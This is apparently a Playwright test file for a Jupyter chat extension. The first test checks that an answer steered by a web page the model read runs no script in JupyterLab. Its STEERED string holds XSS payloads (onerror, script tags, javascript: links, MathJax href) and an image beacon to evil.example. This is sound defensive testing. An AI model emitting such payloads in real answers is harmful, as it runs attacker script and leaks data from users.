"""A talk in Lab: in a cell, and typed into the widget."""

import pytest
import upstream_stub
from playwright.sync_api import expect

CELL = "%%lk_chat up/large\n**one** two three"
WIDGET = 'from lk_jupyter.widgets import Chat\nchat = Chat("up/large")\nchat'

#: An answer as a web page that was read may have steered it: each of these ran when answers were trusted Markdown.
STEERED = """**steered** <img src=x onerror="window.ran = 1"> <script>window.ran = 2</script> $x^2$
<details open ontoggle="window.ran = 3"></details> [link](javascript:window.ran=4) ![](https://evil.example/?q=42)

[two][r] $\\href{javascript:window.ran=5}{x}$ $$\\class{lk}{\\href{javascript:window.ran=5}{y}}$$

[r]: java&#115;cript:window.ran=6"""


@pytest.mark.nightly  # as test_received.py
@pytest.mark.timeout(900)
def test_an_answer_that_a_web_page_steered_runs_nothing_in_lab(open_notebook, talkative, upstream, monkeypatch):
    monkeypatch.setattr(upstream_stub, "said", lambda _: STEERED.replace(" ", "\t"))  # it is sent word by word
    signed_in = f'import os\nos.environ.update(LK_BASE_URL="{talkative.base_url}", LK_API_KEY="{talkative.api_key}")\n'
    book = open_notebook(f"{signed_in}%load_ext lk_jupyter", CELL, WIDGET, "chat.ask('read that page')")
    asked = []

    def on_request(request):
        asked.append(request.url)

    book.page.on("request", on_request)
    for cell in range(4):
        book.run(cell)
        book.ended()
    for shown in (book.output(1), book.output(2)):
        expect(shown).to_contain_text("steered")
        for link in shown.locator("a").all():
            link.click(modifiers=["Alt"], no_wait_after=True)
    expect(book.output(1).locator("strong").first).to_have_text("steered")
    expect(book.output(1).locator("mjx-container").first).to_be_visible()
    links = [link.get_attribute("href") for link in book.page.locator(".jp-OutputArea a").all()]
    assert [link for link in links if not str(link).startswith("https://")] == []
    assert book.page.evaluate("window.ran") is None
    book.page.remove_listener("request", on_request)
    assert not [url for url in asked if "evil.example" in url]
    book.picture("steered")


@pytest.mark.timeout(900)  # a whole path, on machines that do much else
def test_a_question_is_asked_with_keys_and_its_answer_comes_piece_by_piece(
    open_notebook, accessible, talkative, upstream
):
    signed_in = f'import os\nos.environ.update(LK_BASE_URL="{talkative.base_url}", LK_API_KEY="{talkative.api_key}")\n'
    book = open_notebook(f"{signed_in}%load_ext lk_jupyter", CELL, WIDGET, "len(chat.messages)")
    book.run(0)
    book.ended()
    said = book.run(1)
    book.ended()
    expect(said).to_contain_text("7 + 5 tokens")
    expect(said.locator("strong").first).to_have_text("ONE")

    shown, page = book.run(2), book.page
    book.ended()
    question = shown.get_by_label("Question")
    upstream.hold.clear()
    question.fill("one <b>two</b>")
    question.press("Enter")
    log = shown.get_by_role("log")
    expect(log).to_contain_text("ONE")
    expect(question).to_have_value("")
    expect(shown.get_by_role("button", name="Stop")).to_be_visible()
    question.press("Escape")
    expect(shown.get_by_role("button", name="Ask")).to_be_visible()
    upstream.hold.set()
    question.fill("again <i>")
    page.keyboard.press("Enter")
    expect(log).to_contain_text("AGAIN<I>")
    expect(log).to_contain_text("one <b>two</b>")
    expect(shown.get_by_text("Cost so far")).to_be_visible()
    for theme in book.themes():
        accessible(shown)
        book.picture_of(2, f"widget-chat-{theme}")
    expect(book.run(3)).to_contain_text("4")
